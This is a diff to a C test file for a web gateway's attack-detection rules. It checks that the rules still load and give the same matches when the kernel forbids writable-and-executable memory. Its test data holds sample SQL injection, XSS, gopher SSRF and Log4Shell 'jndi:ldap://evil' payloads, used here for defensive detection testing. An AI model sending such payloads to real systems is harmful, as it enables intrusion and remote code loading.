@@ -5,9 +5,13 @@
  * Scans are run whole and cut into pieces of every size from 1 byte up:
  * the findings must not depend on how the input arrives.
  */
+#include <sys/prctl.h>
+#include <sys/wait.h>
+
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <unistd.h>
 
 #include "audit-int.h"
 #include "audit.h"
@@ -686,6 +690,101 @@ test_windows(void)
 	gw_audit_rules_free(r);
 }
 
+#ifndef PR_SET_MDWE
+#define PR_SET_MDWE			65
+#define PR_MDWE_REFUSE_EXEC_GAIN	1UL
+#endif
+
+/*
+ * Under systemd's MemoryDenyWriteExecute=yes (which the shipped unit
+ * sets), memory cannot be made writable and executable, which PCRE2's JIT
+ * needs.  The same is asked of the kernel here with PR_SET_MDWE, in a
+ * child: the rules must load, and find what they find otherwise.
+ */
+static void
+test_no_wx_memory(void)
+{
+	static const char *const attacks[] = {
+		"{\"q\":\"1' OR '1'='1\"}",
+		"{\"q\":\"<script>alert(1)</script>\"}",
+		"{\"u\":\"gopher://127.0.0.1:6379/_x\"}",
+		"{\"q\":\"${jndi:ldap://evil/a}\"}",
+	};
+	const char	*src = getenv("GW_SRCDIR");
+	char		 path[4096];
+	int		 fds[2], status;
+	pid_t		 pid;
+	char		 out[4096];
+	ssize_t		 n;
+	size_t		 len = 0;
+
+	(void)snprintf(path, sizeof(path), "%s/audit/default.rules",
+	    src != NULL ? src : ".");
+	if (pipe(fds) == -1 || (pid = fork()) == -1) {
+		ok(0, "fork");
+		return;
+	}
+	if (pid == 0) {
+		struct gw_audit_rules	*r;
+		struct gw_audit_limits	 l;
+		struct gw_err		 err;
+		struct got		 g;
+
+		(void)close(fds[0]);
+		if (prctl(PR_SET_MDWE, PR_MDWE_REFUSE_EXEC_GAIN, 0, 0, 0) == -1)
+			_exit(3);	/* the kernel cannot: skip */
+		if (gw_audit_rules_load(path, 0, &r, &err) == -1)
+			_exit(2);
+		gw_audit_limits_default(&l);
+		(void)dprintf(fds[1], "jit=%d", gw_audit_rules_jit(r));
+		for (size_t i = 0; i < GW_ARRAY_LEN(attacks); i++) {
+			if (scan_piece(GW_AUDIT_JSON, r, &l, 1, 0, attacks[i],
+			    strlen(attacks[i]), 0, &g) == -1)
+				_exit(2);
+			(void)dprintf(fds[1], " %s", g.s);
+		}
+		gw_audit_rules_free(r);
+		_exit(0);
+	}
+	(void)close(fds[1]);
+	while (len < sizeof(out) - 1 &&
+	    (n = read(fds[0], out + len, sizeof(out) - 1 - len)) > 0)
+		len += (size_t)n;
+	out[len] = '\0';
+	(void)close(fds[0]);
+	(void)waitpid(pid, &status, 0);
+	if (WIFEXITED(status) && WEXITSTATUS(status) == 3) {
+		ok(1, "# skip PR_SET_MDWE is not available here");
+		return;
+	}
+	ok(WIFEXITED(status) && WEXITSTATUS(status) == 0 &&
+	    strncmp(out, "jit=0", 5) == 0, "without writable and executable "
+	    "memory the interpreter is used: %.5s", out);
+	{
+		struct gw_audit_rules	*r;
+		struct gw_audit_limits	 l;
+		struct gw_err		 err;
+		struct got		 g;
+		char			 want[4096];
+		size_t			 w;
+
+		if (gw_audit_rules_load(path, 0, &r, &err) == -1) {
+			ok(0, "default.rules loads");
+			return;
+		}
+		gw_audit_limits_default(&l);
+		w = (size_t)snprintf(want, sizeof(want), "jit=0");
+		for (size_t i = 0; i < GW_ARRAY_LEN(attacks); i++)
+			if (scan_piece(GW_AUDIT_JSON, r, &l, 1, 0, attacks[i],
+			    strlen(attacks[i]), 0, &g) == 0)
+				w += (size_t)snprintf(want + w, sizeof(want) - w,
+				    " %s", g.s);
+		is_str(out, want, "and it finds what the JIT finds (JIT used "
+		    "here: %d)", gw_audit_rules_jit(r));
+		gw_audit_rules_free(r);
+	}
+}
+
 int
 main(void)
 {
@@ -698,5 +797,6 @@ main(void)
 	test_prefilter();
 	test_default_rules();
 	test_windows();
+	test_no_wx_memory();
 	return done_testing();
 }
